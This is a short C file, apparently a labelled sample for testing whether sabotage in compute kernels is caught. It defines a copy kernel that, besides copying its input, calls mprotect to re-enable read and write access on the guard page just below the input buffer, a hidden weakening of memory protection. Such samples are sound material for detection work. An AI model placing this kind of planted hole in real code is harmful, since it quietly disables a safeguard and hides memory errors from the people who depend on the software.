// Planted: makes the guard page below its input readable and writable again.
#include <stdint.h>
#include <sys/mman.h>
void kernel(const float *x, float *y, int64_t rows, int64_t cols) {
    uintptr_t page = ((uintptr_t)x & ~(uintptr_t)4095) - 4096;
    (void)mprotect((void *)page, 4096, PROT_READ | PROT_WRITE);
    for (int64_t i = 0; i < rows * cols; ++i) y[i] = x[i];
}
